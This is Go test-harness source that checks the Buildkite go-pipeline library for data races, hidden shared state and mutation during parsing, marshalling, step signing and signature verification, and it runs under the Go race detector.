	if jn, _ := doc.FromJSON(jb); jn != nil && !leadingWSMultiline(jn) {
		yb, err := safeYAMLMarshal(p)
		if err != nil {
			res.Err = "yaml: " + err.Error()
			return res
		}
		res.YAML = string(yb)
	}
	penv := map[string]string{}
	if p.Env != nil {
		penv = p.Env.ToMap()
	}
	if err := signature.SignSteps(bg, p.Steps, kp.Signer, "repo", signature.WithEnv(penv)); err != nil {
		res.Err = "sign: " + err.Error()
		return res
	}
	bad := ""
	allCommandSteps(p.Steps, func(path string, s *pipeline.CommandStep) {
		if s.Signature == nil {
			bad = "unsigned " + path
			return
		}
		if _, err := verifyStep(kp.Verifier, s.Signature, s, "repo", penv); err != nil {
			bad = "verify " + path + ": " + err.Error()
			return
		}
		if kp.Kind == "EdDSA" {
			res.Sigs = append(res.Sigs, s.Signature.Value) // Ed25519 is deterministic
		} else {
			res.Sigs = append(res.Sigs, strings.Join(s.Signature.SignedFields, ","))
		}
	})
	if bad != "" {
		res.Err = bad
	}
	return res
}

// shared read-only fixtures
type c19Shared struct {
	m, twin    *ordered.MapSA
	mJSON      string
	mYAML      string
	mKeys      []string
	pipe       *pipeline.Pipeline
	pipeJSON   string
	pipeYAML   string
	penv       map[string]string
	pub        jwk.Set
	kp         *keys.Pair
	signStep   *signature.CommandStepWithInvariants
	signFields string
	plugin     *pipeline.Plugin
	fullSource string
	validKey   jwk.Key
	badMap     *ordered.MapSA
	badPipe    *pipeline.Pipeline
}

// c19BuildShared builds the fixtures twice from the same seed: the expected
// observer results are computed on the first copy, the second copy is handed
// out untouched, so that the first observation of every shared object
// happens under concurrency (lazily initialised caches would race there).
func c19BuildShared(seed uint64, kp *keys.Pair) (*c19Shared, error) {
	ref, err := c19BuildOne(rand.New(rand.NewPCG(seed, 5)), kp, true)
	if err != nil {
		return nil, err
	}
	fresh, err := c19BuildOne(rand.New(rand.NewPCG(seed, 5)), kp, false)
	if err != nil {
		return nil, err
	}
	fresh.mJSON, fresh.mYAML, fresh.mKeys = ref.mJSON, ref.mYAML, ref.mKeys
	fresh.pipeJSON, fresh.pipeYAML = ref.pipeJSON, ref.pipeYAML
	fresh.signFields, fresh.fullSource = ref.signFields, ref.fullSource
	return fresh, nil
}

func c19BuildOne(r *rand.Rand, kp *keys.Pair, observe bool) (*c19Shared, error) {
	s := &c19Shared{kp: kp}
	build := func() *ordered.MapSA {
		m := ordered.NewMap[string, any](0)
		// a long run of deleted keys at the front, deleted keys in the middle, a long live tail: 84 slots, fewer than
		// half of them dead, so nothing has compacted them away
		for i := 0; i < 20; i++ {
			m.Set(fmt.Sprintf("lead%d", i), i)
		}
		for i := 0; i < 24; i++ {
			m.Set(fmt.Sprintf("k%d", i), []any{i, fmt.Sprint("v", i), ordered.MapFromItems(ordered.TupleSA{Key: "n", Value: i})})
		}
		for i := 0; i < 40; i++ {
			m.Set(fmt.Sprintf("t%d", i), fmt.Sprint("tail", i))
		}
		for i := 0; i < 20; i++ {
			m.Delete(fmt.Sprintf("lead%d", i))
		}
		for i := 0; i < 24; i += 3 {
			m.Delete(fmt.Sprintf("k%d", i))
		}
		m.Replace("k1", "k2", "collapsed")
		m.Replace("k4", "k4x", 4)
		return m
	}
	s.m, s.twin = build(), build()
	if observe {
		_, _, tomb, ok := s.m.VerifState()
		if tomb == 0 || !ok {
			return nil, fmt.Errorf("shared map carries no tombstones")
		}
		jb, err := s.m.MarshalJSON()
		if err != nil {
			return nil, err
		}
		s.mJSON = string(jb)
		yb, err := yaml.Marshal(s.m)
		if err != nil {
			return nil, err
		}
		s.mYAML = string(yb)
		_ = s.m.Range(func(k string, _ any) error { s.mKeys = append(s.mKeys, k); return nil })
	}
	// pipeline
	for {
		d, err := gen.Pipeline(r, gen.PipeOpts{Str: gen.StringOpts{}, NoTime: true, SmallInts: true, MaxSteps: 6, BigMaps: true}.NoSweep())
		if err != nil || d.NCommand < 2 {
			continue
		}
		p, perr := parseText(string(doc.ToJSON(d.Plain)))
		if perr != nil {
			continue
		}
		// every shared pipeline also has a step whose plugins carry explicitly empty configs (mapping, list) next
		// to an absent one: marshalling writes them all as null, the objects keep what they hold
		p.Steps = append(p.Steps, &pipeline.CommandStep{Command: "with empty plugin configs", Plugins: pipeline.Plugins{
			{Source: "ecr#v2.7.0", Config: map[string]any{}}, {Source: "cache#v1.0.0", Config: []any{}}, {Source: "docker#v5.0.0"}}},
			// ... and a step whose cache paths, plugin source and command are spelled redundantly (a leading "./", a
			// trailing slash, doubled separators, padding): observers write them out as they are and leave them alone
			&pipeline.CommandStep{Command: "  make all \r\n", Label: " padded ", Cache: &pipeline.Cache{Paths: []string{"./vendor/", "node_modules//.cache", "a/./b", "x/../y", " spaced "}, Name: " n "},
				Plugins: pipeline.Plugins{{Source: "./local//plugin/", Config: map[string]any{"path": "./a//b/"}}}})
		s.pipe = p
		break
	}
	s.penv = map[string]string{}
	if s.pipe.Env != nil {
		s.penv = s.pipe.Env.ToMap()
	}
	if err := signature.SignSteps(bg, s.pipe.Steps, kp.Signer, "repo", signature.WithEnv(s.penv)); err != nil {
		return nil, err
	}
	// a signature record may list its fields in any order (another implementation, a hand-written record): every
	// other shared step gets its list reversed; verification does not depend on the order and must not "repair" it
	nth := 0
	allCommandSteps(s.pipe.Steps, func(_ string, st *pipeline.CommandStep) {
		if nth++; nth%2 == 0 && st.Signature != nil {
			slices.Reverse(st.Signature.SignedFields)
		} else if nth%3 == 0 && st.Signature != nil && len(st.Signature.SignedFields) > 0 {
			// ... or repeat a name (adjacent): still the same set of fields
			f := st.Signature.SignedFields
			st.Signature.SignedFields = append([]string{f[0], f[0]}, f[1:]...)
		}
	})
	if observe {
		pj, err := safeJSONMarshal(s.pipe)
		if err != nil {
			return nil, err
		}
		s.pipeJSON = string(pj)
		py, err := safeYAMLMarshal(s.pipe)
		if err != nil {
			return nil, err
		}
		s.pipeYAML = string(py)
	}
	// the shared key set: the signing key's public half (a copy, not the process-wide one) next to a public key
	// that has no key id - a verifier only reads it
	s.pub = jwk.NewSet()
	if pk, ok := kp.PubSet.Key(0); ok {
		if cp, err := pk.Clone(); err == nil {
			_ = s.pub.AddKey(cp)
		}
	}
	if _, nokid, err := jwkutil.NewKeyPair("", jwa.EdDSA); err == nil {
		if k, ok := nokid.Key(0); ok {
			_ = s.pub.AddKey(k)
		}
	}
	s.signStep = &signature.CommandStepWithInvariants{
		CommandStep: pipeline.CommandStep{Command: "make", Env: map[string]string{"A": "1", "B": "2"},
			Plugins: pipeline.Plugins{{Source: "docker#v5", Config: map[string]any{"image": "alpine", "env": []any{"A", "B"}}}, {Source: "ecr#v2", Config: map[string]any{}}, {Source: "cache#v1", Config: []any{}}},
			Matrix:  &pipeline.Matrix{Setup: pipeline.MatrixSetup{"os": {"linux", "mac"}}}},
		RepositoryURL: "repo",
	}
	s.plugin = &pipeline.Plugin{Source: "docker-compose#v4.16.0", Config: map[string]any{"run": "app"}}
	if r.IntN(2) == 0 {
		s.plugin.Config = map[string]any{} // explicitly empty
	}
	if observe {
		sig, err := signature.Sign(bg, kp.Signer, s.signStep, signature.WithEnv(s.penv))
		if err != nil {
			return nil, err
		}
		s.signFields = strings.Join(sig.SignedFields, ",")
		s.fullSource = s.plugin.FullSource()
	}
	s.validKey, _ = kp.PrivSet.Key(0)
	s.badMap = ordered.MapFromItems(ordered.TupleSA{Key: "a", Value: ordered.MapFromItems(ordered.TupleSA{Key: "b", Value: math.Inf(1)})}, ordered.TupleSA{Key: "c", Value: 1})
	s.badPipe, _ = parseText("steps:\n  - wait: ~\n    x: {y: {z: .inf}}\n")
	return s, nil
}

// one observer operation on the shared fixtures; returns "" or a mismatch.
func (s *c19Shared) observe(op int, r *rand.Rand) (string, string) {
	switch op % 17 {
	case 16:
		// a marshal that fails (non-finite float) must fail cleanly and leave nothing shared behind
		if _, err := json.Marshal(s.badMap); err == nil {
			return "Map.MarshalJSON(non-finite)", "expected an error"
		}
		if _, err := json.Marshal(s.badPipe); err == nil {
			return "Map.MarshalJSON(non-finite)", "expected an error"
		}
		return "Map.MarshalJSON(non-finite)", ""
	case 0:
		k := s.mKeys[r.IntN(len(s.mKeys))]
		if _, ok := s.m.Get(k); !ok || !s.m.Contains(k) {
			return "Get/Contains", "live key not found"
		}
		if _, ok := s.m.Get("k0"); ok {
			return "Get/Contains", "deleted key found"
		}
		return "Get/Contains", ""
	case 1:
		if s.m.Len() != len(s.mKeys) || s.m.IsZero() {
			return "Len/IsZero", "wrong length"
		}
		return "Len/IsZero", ""
	case 2:
		i := 0
		bad := ""
		_ = s.m.Range(func(k string, _ any) error {
			if i >= len(s.mKeys) || k != s.mKeys[i] {
				bad = "iteration order differs"
			}
			i++
			return nil
		})
		if i != len(s.mKeys) && bad == "" {
			bad = "iteration count differs"
		}
		return "Range", bad
	case 3:
		if len(s.m.ToMap()) != len(s.mKeys) {
			return "ToMap", "size differs"
		}
		_ = ordered.ToMapRecursive(s.m)
		return "ToMap", ""
	case 4:
		if !ordered.Equal(s.m, s.m) || !ordered.Equal(s.m, s.twin) || !ordered.Equal(s.twin, s.m) {
			return "Equal", "equal maps reported unequal"
		}
		return "Equal", ""
	case 5:
		b, err := s.m.MarshalJSON()
		if err != nil || string(b) != s.mJSON {
			return "Map.MarshalJSON", "output differs from the sequential one"
		}
		return "Map.MarshalJSON", ""
	case 6:
		b, err := yaml.Marshal(s.m)
		if err != nil || string(b) != s.mYAML {
			return "Map.MarshalYAML", "output differs from the sequential one"
		}
		return "Map.MarshalYAML", ""
	case 7:
		b, err := json.Marshal(s.pipe)
		if err != nil || string(b) != s.pipeJSON {
			return "Pipeline.MarshalJSON", "output differs from the sequential one"
		}
		return "Pipeline.MarshalJSON", ""
	case 8:
		b, err := yaml.Marshal(s.pipe)
		if err != nil || string(b) != s.pipeYAML {
			return "Pipeline.MarshalYAML", "output differs from the sequential one"
		}
		return "Pipeline.MarshalYAML", ""
	case 9:
		bad := ""
		allCommandSteps(s.pipe.Steps, func(path string, st *pipeline.CommandStep) {
			sf := &signature.CommandStepWithInvariants{CommandStep: *st, RepositoryURL: "repo"}
			if err := signature.Verify(bg, st.Signature, s.pub, sf, signature.WithEnv(s.penv)); err != nil {
				bad = "shared step " + path + " does not verify: " + err.Error()
			}
		})
		return "Verify(shared pipeline, shared key set)", bad
	case 10:
		sig, err := signature.Sign(bg, s.kp.Signer, s.signStep, signature.WithEnv(s.penv))
		if err != nil {
			return "Sign(shared step, shared key)", err.Error()
		}
		if strings.Join(sig.SignedFields, ",") != s.signFields {
			return "Sign(shared step, shared key)", "field list differs"
		}
		if err := signature.Verify(bg, sig, s.pub, s.signStep, signature.WithEnv(s.penv)); err != nil {
			return "Sign(shared step, shared key)", "own signature does not verify: " + err.Error()
		}
		return "Sign(shared step, shared key)", ""
	case 11:
		if s.plugin.FullSource() != s.fullSource {
			return "Plugin.FullSource", "differs"
		}
		if _, err := json.Marshal(s.plugin); err != nil {
			return "Plugin.FullSource", err.Error()
		}
		return "Plugin.FullSource", ""
	case 12:
		if err := jwkutil.Validate(s.validKey); err != nil {
			return "jwkutil.Validate", err.Error()
		}
		return "jwkutil.Validate", ""
	case 13:
		// package-level token expression through distinct steps
		st := &pipeline.CommandStep{Command: "echo {{matrix.os}} {{ matrix.arch }}", Matrix: &pipeline.Matrix{Setup: pipeline.MatrixSetup{"os": {"linux"}, "arch": {"amd64"}}}}
		if err := st.InterpolateMatrixPermutation(pipeline.MatrixPermutation{"os": "linux", "arch": "amd64"}); err != nil || st.Command != "echo linux amd64" {
			return "InterpolateMatrixPermutation", fmt.Sprintf("err=%v command=%q", err, st.Command)
		}
		return "InterpolateMatrixPermutation", ""
	case 14:
		p, err := parseText(`{"steps":["wait","block",{"command":"x"},"nope"]}`)
		if p == nil || len(p.Steps) != 4 || !warning.Is(err) {
			return "Parse(scalar steps)", "unexpected result"
		}
		return "Parse(scalar steps)", ""
	default:
		var walked int
		allCommandSteps(s.pipe.Steps, func(string, *pipeline.CommandStep) { walked++ })
		_ = modelToDocRaw(s.pipe)
		return "walk(shared pipeline)", ""
	}
}

var raceFrameRE = regexp.MustCompile(`github\.com/buildkite/go-pipeline[^\s(]*`)

func checkC19(c *run.Ctx) {
	all, err := keys.All()
	must(c, err)
	kp := all["EdDSA"][0]
	rounds := c.N(150, 4000)

	// ---- (A) disjoint objects concurrently, then sequentially
	c.Phase("disjoint", func() {
		batches := rounds / 10
		if batches < 3 {
			batches = 3
		}
		for b := 0; b < batches; b++ {
			var wg sync.WaitGroup
			results := make([]c19Result, c19Goroutines)
			tmpl := make([]string, c19Goroutines)
			start := make(chan struct{})
			for g := 0; g < c19Goroutines; g++ {
				wg.Add(1)
				go func(g int) {
					defer wg.Done()
					<-start
					k := all[keys.Kinds[(b+g)%3]][0]
					results[g] = c19Work(uint64(c.Seed)*1000003+uint64(b*c19Goroutines+g), k)
					tmpl[g] = c19TemplateWork(b*c19Goroutines + g)
				}(g)
			}
			close(start)
			wg.Wait()
			for g := 0; g < c19Goroutines; g++ {
				k := all[keys.Kinds[(b+g)%3]][0]
				seq := c19Work(uint64(c.Seed)*1000003+uint64(b*c19Goroutines+g), k)
				c.Eval(1)
				c.Count("disjoint_lifecycles_compared", 1)
				if seq.Err != "" && strings.HasPrefix(seq.Err, "sign: refusing") {
					c.Count("disjoint_refused_unknown_step", 1)
				}
				if seq.Sibling != "" || results[g].Sibling != "" {
					c.Violation(fmt.Sprintf("disjoint/%d-%d", b, g), map[string]any{"what": "distinct steps of one parsed pipeline are not independent objects: " + seq.Sibling + results[g].Sibling})
					return
				}
				if !seq.same(results[g]) {
					c.Violation(fmt.Sprintf("disjoint/%d-%d", b, g), map[string]any{"what": "working on distinct objects concurrently gave a different result than sequentially",
						"concurrent": results[g], "sequential": seq})
					return
				}
				c.Feature("disjoint", seq.Err == "", len(seq.Sigs), seq.YAML != "")
				if want := c19TemplateWork(b*c19Goroutines + g); tmpl[g] != want {
					c.Violation(fmt.Sprintf("disjoint/%d-%d", b, g), map[string]any{"what": "pipelines built by different goroutines from one read-only list of env pairs (MapFromItems) and interpolated with their own variables: a different result than sequentially",
						"concurrent": tmpl[g], "sequential": want})
					return
				}
				for k := range c19EnvTemplate {
					if c19EnvTemplate[k] != c19EnvTemplatePristine[k] {
						c.Violation(fmt.Sprintf("disjoint/%d-%d", b, g), map[string]any{"what": fmt.Sprintf("the read-only list of pairs given to MapFromItems was changed by work on the maps built from it (entry %d is now %q=%q)", k, c19EnvTemplate[k].Key, c19EnvTemplate[k].Value)})
						return
					}
				}
				c.Count("pipelines_built_from_a_shared_pair_list", 1)
			}
		}
	})

	// ---- (B) shared read-only objects under concurrent observers
	sh, err := c19BuildShared(uint64(c.Seed), kp)
	if err != nil {
		// on a correct tree the fixtures (a parsed and signed pipeline, a map) always build and marshal
		c.Violation("shared/build", map[string]any{"what": "a parsed and signed pipeline could not be observed sequentially (JSON then YAML marshalling): " + err.Error()})
		c.Sample(map[string]any{"note": "fixture build failed"})
		c.Feature("failed", 1)
		c.Feature("failed", 2)
		c.Eval(1)
		c.Finish("exploration", "fixture build failed", nil, nil)
	}
	var inflight, maxInflight int64
	var inflightMask uint64
	var overlap [17][17]int64
	var opCount [17]int64
	opNames := map[string]int{}
	var mu sync.Mutex
	c.Phase("shared", func() {
		for round := 0; round < rounds; round++ {
			// fresh, never-observed fixtures (first 40 rounds, then every 8th)
			if round < 40 || round%8 == 0 {
				nsh, err := c19BuildShared(uint64(c.Seed)*7919+uint64(round), kp)
				if err == nil {
					sh = nsh
					c.Count("fresh_shared_fixtures", 1)
				} else {
					c.Violation(fmt.Sprintf("shared/build-%d", round), map[string]any{"what": "a parsed and signed pipeline could not be observed sequentially (JSON then YAML marshalling): " + err.Error()})
					break
				}
			}
			var wg sync.WaitGroup
			start := make(chan struct{})
			for g := 0; g < c19Goroutines; g++ {
				wg.Add(1)
				go func(g int) {
					defer wg.Done()
					r := rand.New(rand.NewPCG(uint64(c.Seed)+uint64(round), uint64(g)))
					<-start
					for k := 0; k < 12; k++ {
						op := r.IntN(17)
						// which observers are in flight right now? (evidence of the overlaps actually achieved)
						mask := atomic.LoadUint64(&inflightMask)
						for o := 0; o < 17; o++ {
							if mask&(1<<uint(o)) != 0 {
								atomic.AddInt64(&overlap[op][o], 1)
							}
						}
						atomic.AddInt64(&opCount[op], 1)
						for {
							m := atomic.LoadUint64(&inflightMask)
							if atomic.CompareAndSwapUint64(&inflightMask, m, m|1<<uint(op)) {
								break
							}
						}
						n := atomic.AddInt64(&inflight, 1)
						for {
							m := atomic.LoadInt64(&maxInflight)
							if n <= m || atomic.CompareAndSwapInt64(&maxInflight, m, n) {
								break
							}
						}
						name, bad := sh.observe(op, r)
						atomic.AddInt64(&inflight, -1)
						if atomic.AddInt64(&opCount[op], -1) == 0 {
							for {
								m := atomic.LoadUint64(&inflightMask)
								if atomic.CompareAndSwapUint64(&inflightMask, m, m&^(1<<uint(op))) {
									break
								}
							}
						}
						mu.Lock()
						opNames[name]++
						mu.Unlock()
						if bad != "" {
							c.Violation(fmt.Sprintf("shared/%d-%d", round, g), map[string]any{"what": "concurrent read-only observer " + name + ": " + bad})
							return
						}
					}
				}(g)
			}
			close(start)
			wg.Wait()
			c.Eval(c19Goroutines * 12)
			if c.Violations() > 0 {
				break
			}
		}
	})
	for n, k := range opNames {
		c.Count("shared_observer_"+n, k)
		c.Feature("shared", n)
	}
	c.Max("max_simultaneous_observers", maxInflight)
	pairs, events := 0, int64(0)
	for a := 0; a < 17; a++ {
		for b := 0; b < 17; b++ {
			if overlap[a][b] > 0 {
				pairs++
				events += overlap[a][b]
			}
		}
	}
	c.Count("distinct_overlapping_observer_kind_pairs_observed", pairs)
	c.Count("observer_overlap_events", int(events))
	c.Count("rounds", rounds)

	// ---- (C) observers do not mutate (sequential, deep state before/after)
	c.Phase("no-mutation", func() {
		r := c.RNG("nomut")
		mapState := func() string {
			return fmt.Sprintf("%v|%v|%s", sh.m.VerifSlots(), sortedIndex(sh.m.VerifIndex()), anyToDoc(sh.m).String())
		}
		pipeState := func() string { return modelToDocRaw(sh.pipe).String() }
		stepState := func() string {
			ks, _ := json.Marshal(sh.pub)
			return modelToDocRaw(sh.signStep).String() + fmt.Sprint(sh.penv) + string(ks)
		}
		allFields := cmp.Exporter(func(reflect.Type) bool { return true })
		for i := 0; i < c.N(400, 4000); i++ {
			op := i % 17
			if i%64 == 0 {
				if nsh, err := c19BuildShared(uint64(c.Seed)*104729+uint64(i), kp); err == nil {
					sh = nsh
				}
			}
			b1, b2, b3 := mapState(), pipeState(), stepState()
			// deep copies including unexported fields (new cache fields would show up here)
			cpPipe, cpStep, cpPlugin := util.DeepCopy(sh.pipe), util.DeepCopy(sh.signStep), util.DeepCopy(sh.plugin)
			name, bad := sh.observe(op, r)
			if !cmp.Equal(cpPipe, sh.pipe, allFields) || !cmp.Equal(cpStep, sh.signStep, allFields) || !cmp.Equal(cpPlugin, sh.plugin, allFields) {
				c.Violation(fmt.Sprintf("nomut/%d", i), map[string]any{"what": "observer " + name + " modified the object it observed (deep comparison including unexported fields)",
					"pipeline_diff": cmp.Diff(cpPipe, sh.pipe, allFields), "step_diff": cmp.Diff(cpStep, sh.signStep, allFields), "plugin_diff": cmp.Diff(cpPlugin, sh.plugin, allFields)})
				return
			}
			if bad != "" {
				c.Violation(fmt.Sprintf("nomut/%d", i), map[string]any{"what": "sequential observer " + name + ": " + bad})
				return
			}
			if a := mapState(); a != b1 {
				c.Violation(fmt.Sprintf("nomut/%d", i), map[string]any{"what": "observer " + name + " modified the ordered map it observed", "before": clip(b1, 3000), "after": clip(a, 3000)})
				return
			}
			if a := pipeState(); a != b2 {
				c.Violation(fmt.Sprintf("nomut/%d", i), map[string]any{"what": "observer " + name + " modified the pipeline it observed", "before": clip(b2, 3000), "after": clip(a, 3000)})
				return
			}
			if a := stepState(); a != b3 {
				c.Violation(fmt.Sprintf("nomut/%d", i), map[string]any{"what": "observer " + name + " modified the step, the env map or the key set it observed", "before": clip(b3, 3000), "after": clip(a, 3000)})
				return
			}
			c.Count("mutation_checks", 3)
			c.Eval(1)
		}
	})

	// ---- (D) no hidden shared state across calls: the life cycle of a document in this long-lived process (after
	// everything above, in two different orders, with the two same-id identities of a key kind alternating) gives
	// the same results as in a process that has never done anything else
	c.Phase("history", func() {
		n := c.N(48, 480)
		type job struct {
			text string
			seed uint64
			kp   *keys.Pair
		}
		var jobs []job
		for i := 0; i < n; i++ {
			seed := uint64(c.Seed)*2000003 + uint64(i)
			text, err := c19Text(seed)
			if err != nil {
				continue
			}
			jobs = append(jobs, job{text, seed, all[keys.Kinds[i%3]][(i/3)%2]})
		}
		// the corpus: documents from the repository's tests, real-world shapes and hostile shapes (cycles, unknown and
		// uninferrable steps, `type` steps, look-alike keys, merges), each with every other one as its history
		for i, data := range loadCorpus(c) {
			if len(data) > 32*1024 {
				continue
			}
			var node yaml.Node
			if yaml.Unmarshal(data, &node) == nil {
				if size, cyc := expansionSize(&node, map[*yaml.Node]int{}, map[*yaml.Node]bool{}); !cyc && size > c13MaxExpansion {
					continue
				}
			}
			jobs = append(jobs, job{string(data), uint64(i), all[keys.Kinds[i%3]][(i/3)%2]})
			c.Count("history_corpus_documents", 1)
		}
		n = len(jobs)
		late := make([]c19Result, n)
		for i := range jobs {
			late[i] = c19Life(jobs[i].text, jobs[i].seed, jobs[i].kp)
			if late[i].Sibling != "" {
				c.Violation(fmt.Sprintf("history/%d", i), map[string]any{"what": "distinct steps of one parsed pipeline are not independent objects: " + late[i].Sibling, "document": clip(jobs[i].text, 6000)})
				return
			}
		}
		for i := n - 1; i >= 0; i-- {
			again := c19Life(jobs[i].text, jobs[i].seed, jobs[i].kp)
			c.Eval(1)
			if !again.same(late[i]) && jobs[i].kp.Kind == "EdDSA" || again.Err != late[i].Err || again.Warn != late[i].Warn || again.JSON != late[i].JSON || again.YAML != late[i].YAML {
				c.Violation(fmt.Sprintf("history/%d", i), map[string]any{"what": "the same life cycle on a fresh copy of the same document gave two different results in one process (forward and reverse order)",
					"first": late[i], "second": again, "document": clip(jobs[i].text, 6000)})
				return
			}
		}
		fresh := make([]c19Result, n)
		errs := make([]error, n)
		var wg sync.WaitGroup
		sem := make(chan struct{}, 16)
		for i := range jobs {
			wg.Add(1)
			sem <- struct{}{}
			go func(i int) {
				defer wg.Done()
				defer func() { <-sem }()
				pb, e1 := json.Marshal(jobs[i].kp.PrivSet)
				ub, e2 := json.Marshal(jobs[i].kp.PubSet)
				if e1 != nil || e2 != nil {
					errs[i] = fmt.Errorf("marshal keys: %v %v", e1, e2)
					return
				}
				errs[i] = freshProcess("c19life", c19ChildReq{jobs[i].text, jobs[i].seed, jobs[i].kp.Kind, pb, ub}, &fresh[i])
			}(i)
		}
		wg.Wait()
		for i := range jobs {
			if errs[i] != nil {
				c.Infra("fresh process for life cycle %d: %v", i, errs[i])
				continue
			}
			c.Eval(1)
			c.Count("lifecycles_compared_with_a_fresh_process", 1)
			if fresh[i].Warn != "" {
				c.Count("fresh_process_lifecycles_with_warning", 1)
			}
			a, b := late[i], fresh[i]
			if jobs[i].kp.Kind != "EdDSA" {
				a.Sigs, b.Sigs = nil, nil // randomised signatures: compared through verification inside the life cycle
			}
			if !a.same(b) {
				c.Violation(fmt.Sprintf("history/%d", i), map[string]any{"what": "a life cycle (Parse, Interpolate, marshal, SignSteps, Verify) gave a different result in this long-lived process than in a fresh process: results depend on what the process did before (hidden shared state)",
					"long_lived_process": late[i], "fresh_process": fresh[i], "document": clip(jobs[i].text, 6000), "key_kind": jobs[i].kp.Kind})
				return
			}
			c.Feature("history", b.Err == "", b.Warn != "", len(b.Sigs) > 0)
		}
	})

	// ---- (E) cold start: the first thing a fresh process does with the library is done by 16 goroutines at once
	// (an agent starting its workers). Lazily built package-level state is built exactly then; the race detector
	// watches the child (its log lands next to this process's), and every goroutine's result must be the one this
	// process computes sequentially.
	c.Phase("cold-start", func() {
		lp := ""
		for _, f := range strings.Fields(os.Getenv("GORACE")) {
			if strings.HasPrefix(f, "log_path=") {
				lp = strings.TrimPrefix(f, "log_path=")
			}
		}
		rounds := c.N(6, 40)
		type round struct {
			texts []string
			res   []string
			err   error
		}
		rs := make([]round, rounds)
		var wg sync.WaitGroup
		sem := make(chan struct{}, 4) // few children at a time: each wants its 16 goroutines truly parallel
		for k := 0; k < rounds; k++ {
			for j := 0; j < 1+k%4; j++ {
				if t, err := c19Text(uint64(c.Seed)*3000017 + uint64(k*8+j)); err == nil {
					rs[k].texts = append(rs[k].texts, t)
				}
			}
			if len(rs[k].texts) == 0 {
				continue
			}
			wg.Add(1)
			sem <- struct{}{}
			go func(k int) {
				defer wg.Done()
				defer func() { <-sem }()
				env := []string{}
				if lp != "" {
					env = append(env, fmt.Sprintf("GORACE=halt_on_error=0 exitcode=0 log_path=%s.cold%d", lp, k))
				}
				rs[k].err = freshProcessEnv("c19cold", c19ColdReq{Texts: rs[k].texts, G: 16}, &rs[k].res, env...)
			}(k)
		}
		wg.Wait()
		for k := range rs {
			if len(rs[k].texts) == 0 {
				continue
			}
			if rs[k].err != nil {
				c.Infra("cold-start child %d: %v", k, rs[k].err)
				continue
			}
			for g, got := range rs[k].res {
				text := rs[k].texts[g%len(rs[k].texts)]
				want := c19ColdWork(text)
				c.Eval(1)
				if got != want {
					c.Violation(fmt.Sprintf("cold/%d", k), map[string]any{"what": fmt.Sprintf("goroutine %d of 16 doing the first Parse of a fresh process got a different result than a sequential Parse of the same document", g),
						"concurrent_cold_start": clip(got, 3000), "sequential": clip(want, 3000), "document": clip(text, 4000)})
					return
				}
			}
			c.Count("cold_start_processes", 1)
			c.Count("cold_start_goroutine_results_compared", len(rs[k].res))
			c.Feature("cold-start", len(rs[k].texts))
		}
	})

	// ---- race detector reports
	reports := c19RaceReports()
	c.Count("race_detector_reports", len(reports))
	seen := map[string]bool{}
	for _, rep := range reports {
		frames := raceFrameRE.FindAllString(rep, -1)
		if len(frames) == 0 {
			c.Count("race_reports_without_go_pipeline_frames", 1)
			c.Infra("race report without a go-pipeline frame (harness race?):\n%s", clip(rep, 1500))
			continue
		}
		sort.Strings(frames)
		key := strings.Join(uniq(frames), " ")
		if seen[key] {
			continue
		}
		seen[key] = true
		c.Violation("race/"+fmt.Sprint(len(seen)), map[string]any{"what": "data race reported by the Go race detector in go-pipeline code", "frames": uniq(frames), "report": clip(rep, 6000)})
	}
	raceOn := raceEnabled
	if !raceOn {
		c.Infra("this binary was built without -race: the deciding instrument of C19 is missing")
	}
	c.Sample(map[string]any{"shared_map_slots": fmt.Sprint(sh.m.VerifSlots()), "goroutines": c19Goroutines, "rounds": rounds, "max_simultaneous_observers": maxInflight})
	c.Finish("exploration",
		"built with the Go race detector (-race, halt_on_error=0, reports read from the log files and de-duplicated by go-pipeline frames). (A) 16 goroutines each run the whole life cycle (generate, Parse, Interpolate, matrix interpolation, marshal to JSON and YAML, SignSteps, Verify) on their own documents, released by a start barrier; the same work is then repeated sequentially and JSON/YAML bytes, Ed25519 signature bytes and outcomes are compared. (B) shared read-only fixtures - an ordered map carrying tombstones and nested maps, a parsed and signed pipeline, a key set, one private key with one shared step, a plugin, a validated key - are hit by 16 goroutines x 12 random observers per round (Get, Contains, Len, IsZero, Range, ToMap, ToMapRecursive, Equal against itself and a twin, both marshallers of map and pipeline, Verify of every shared step against the shared key set, Sign with the shared key, FullSource, Validate, matrix token interpolation, Parse) with results compared to the sequential ones; an atomic gauge records the overlap achieved. (C) sequentially, deep state (slot layout + index through the hook, model trees, deep copies incl. unexported fields, the env map and the key set) is compared before/after every observer. (D) the life cycle (Parse incl. warning text, Interpolate, marshalling, SignSteps, Verify) of generated and of all corpus documents is run at the end of this long-lived process, forwards and backwards, and once each in a fresh child process of the same binary; results must be identical (no dependence on what the process did before). (E) fresh child processes whose first use of the library is 16 goroutines parsing and marshalling at once, under the race detector, results compared with sequential ones. distinct_nontrivial counts distinct observer kinds and disjoint outcome classes",
		map[string]any{"race_detector": raceOn},
		[]string{"the race detector only sees accesses that executed", "ECDSA/RSA-PSS signatures are randomised and compared by verification, Ed25519 bytewise"})
}

func sortedIndex(m map[string]int) string {
	ks := refmodel.SortedKeys(m)
	var b bytes.Buffer
	for _, k := range ks {
		fmt.Fprintf(&b, "%s=%d,", k, m[k])
	}
	return b.String()
}

func uniq(s []string) []string {
	var out []string
	for i, x := range s {
		if i == 0 || x != s[i-1] {
			out = append(out, x)
		}
	}
	return out
}

// c19RaceReports reads the race detector's log files (GORACE log_path).
func c19RaceReports() []string {
	lp := ""
	for _, f := range strings.Fields(os.Getenv("GORACE")) {
		if strings.HasPrefix(f, "log_path=") {
			lp = strings.TrimPrefix(f, "log_path=")
		}
	}
	if lp == "" {
		return nil
	}
	files, _ := filepath.Glob(lp + ".*")
	var reports []string
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		for _, part := range strings.Split(string(b), "==================") {
			if strings.Contains(part, "WARNING: DATA RACE") {
				reports = append(reports, part)
			}
		}
	}
	return reports
}
