package main

import (
	"fmt"
	"reflect"
	"sort"
	"time"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/ordered"

	"verif/doc"
	"verif/refmodel"
)

// TypeKey is the pseudo-field carrying the dynamic type of a struct.
const TypeKey = "\x00type"

// modelToDoc converts a go-pipeline object model value (Pipeline, Steps, a
// step, Plugins, ...) into a doc tree, independently of the marshalling
// code: struct fields by Go name (plus the dynamic type), Go maps with sorted
// keys, ordered maps in order (marked order-significant). For typed struct
// fields of map, slice or pointer type, empty and nil are the same (they are
// the omitempty-modelled containers); inside untyped data nothing is folded.
// Plugin sources are compared in canonical spelling (harness rule function).
func modelToDoc(v any) *doc.Node {
